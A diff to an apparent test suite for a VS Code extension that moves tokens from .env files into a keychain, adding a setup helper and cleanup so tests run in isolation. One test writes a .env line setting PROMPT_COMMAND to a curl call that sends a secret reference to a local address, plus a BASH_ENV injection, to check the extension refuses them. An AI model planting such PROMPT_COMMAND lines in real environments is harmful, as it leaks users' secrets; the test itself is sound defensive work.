@@ -36,6 +36,29 @@ describe('vault: keychain-backed references', function () {
   let doc: vscode.TextDocument;
   let fingerprint: string;
   const envPath = (): string => path.join(channel.workspacePath(), '.env');
+  /** The workspace .env once its token was moved: the line holds the reference. */
+  const referenceText = `# app settings\n${NAME}=${REFERENCE}\nDEBUG=1\n`;
+
+  /**
+   * The state the Move test leaves behind, established by the tests that need it (a --grep such as
+   * "terminal" runs them without the Move test): GITHUB_TOKEN stored in SecretStorage, the workspace
+   * .env saved with its reference, open in `doc`, and `fingerprint`. After the Move test it is already so.
+   */
+  async function useStoredReference(): Promise<void> {
+    await vault.backendForScheme('vscode-secret').set(NAME, token);
+    const finding = api.core.scanners.scanner.scan(`${NAME}=${token}`)[0];
+    assert.ok(finding, 'the fixture token is detected');
+    fingerprint = finding.fingerprint;
+    if (!fs.existsSync(envPath())) fs.writeFileSync(envPath(), referenceText);
+    doc = await vscode.workspace.openTextDocument(envPath());
+    if (doc.getText() !== referenceText) {
+      const edit = new vscode.WorkspaceEdit();
+      edit.replace(doc.uri, new vscode.Range(doc.positionAt(0), doc.positionAt(doc.getText().length)), referenceText);
+      assert.ok(await vscode.workspace.applyEdit(edit));
+    }
+    if (doc.isDirty) assert.ok(await doc.save());
+    await vscode.window.showTextDocument(doc);
+  }
 
   before(async function () {
     if (!channel.realWorkbench()) this.skip(); // the fallback offer and Delete are modal dialogs
@@ -51,6 +74,9 @@ describe('vault: keychain-backed references', function () {
     await vscode.workspace.getConfiguration('tokenCustody').update('vault.backend', undefined, vscode.ConfigurationTarget.Global);
     await vscode.commands.executeCommand('workbench.action.closeAllEditors');
     await vscode.commands.executeCommand('notifications.clearAll');
+    // Nothing for the suites after this one: the secret (when Delete did not run) and the .env with its reference.
+    await vault.backendForScheme('vscode-secret').delete(NAME);
+    fs.rmSync(envPath(), { force: true });
   });
 
   it('auto without a Secret Service: Move to keychain offers SecretStorage, stores, verifies and puts the reference in the buffer', async () => {
@@ -87,6 +113,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('the reference is not flagged, has a hover and a CodeLens with the stored token’s metadata', async () => {
+    await useStoredReference();
     await channel.waitFor(() => api.core.store.findings(doc.uri).length === 0 && tokenCustodyDiagnostics(doc.uri).length === 0, 'the diagnostic to go away');
     const refOffset = doc.getText().indexOf(REFERENCE);
     const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', doc.uri, doc.positionAt(refOffset + 5));
@@ -103,6 +130,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('undo restores the token in one step; redo puts the reference back', async () => {
+    assert.ok(doc?.getText().includes(REFERENCE), 'this test undoes the Move test\'s edit: run it with that test (--grep "vault: keychain")');
     await vscode.window.showTextDocument(doc);
     await vscode.commands.executeCommand('undo');
     await channel.waitFor(() => doc.getText().includes(token), 'undo to bring the token back');
@@ -114,6 +142,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('Open Terminal with Keychain Secrets: the terminal has the resolved value and the CLI on PATH', async () => {
+    await useStoredReference();
     const outDir = fs.mkdtempSync(path.join(channel.workspacePath(), 'out-'));
     const opening = vscode.commands.executeCommand<vscode.Terminal | undefined>('tokenCustody.openTerminalWithSecrets');
     // Issue 11 #1: a modal lists variable → secret before anything is resolved.
@@ -146,6 +175,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('issue 11 #1: a .env that sets PROMPT_COMMAND with a reference is refused by name, no terminal, no dialog', async () => {
+    await useStoredReference();
     const edit = new vscode.WorkspaceEdit();
     edit.insert(doc.uri, new vscode.Position(doc.lineCount - 1, 0), `PROMPT_COMMAND=curl -s http://127.0.0.1:9/c?t=${REFERENCE}\nBASH_ENV=${REFERENCE}\n`);
     assert.ok(await vscode.workspace.applyEdit(edit));
@@ -167,6 +197,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('an unresolvable reference: a message naming it, no terminal', async () => {
+    await useStoredReference();
     const missing = `NOPE_${randomBytes(3).toString('hex')}`;
     const edit = new vscode.WorkspaceEdit();
     edit.insert(doc.uri, new vscode.Position(doc.lineCount - 1, 0), `OTHER=vscode-secret://token-custody/${missing}\n`);
@@ -212,6 +243,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('Move to keychain with nothing at the cursor: a clear message, nothing changed', async () => {
+    await useStoredReference();
     const before = doc.getText();
     const moved = await vscode.commands.executeCommand<boolean>('tokenCustody.moveToKeychain', { uri: doc.uri, range: new vscode.Range(0, 0, 0, 1) });
     assert.equal(moved, false);
@@ -221,6 +253,7 @@ describe('vault: keychain-backed references', function () {
   });
 
   it('Restore value into the file (undoable), then Delete from keychain after a modal confirmation', async () => {
+    await useStoredReference();
     const start = doc.getText().indexOf(REFERENCE);
     const arg = { uri: doc.uri.toString(), scheme: 'vscode-secret', name: NAME, start, text: REFERENCE };
     assert.equal(await vscode.commands.executeCommand('tokenCustody.vault.restoreValue', arg), true);
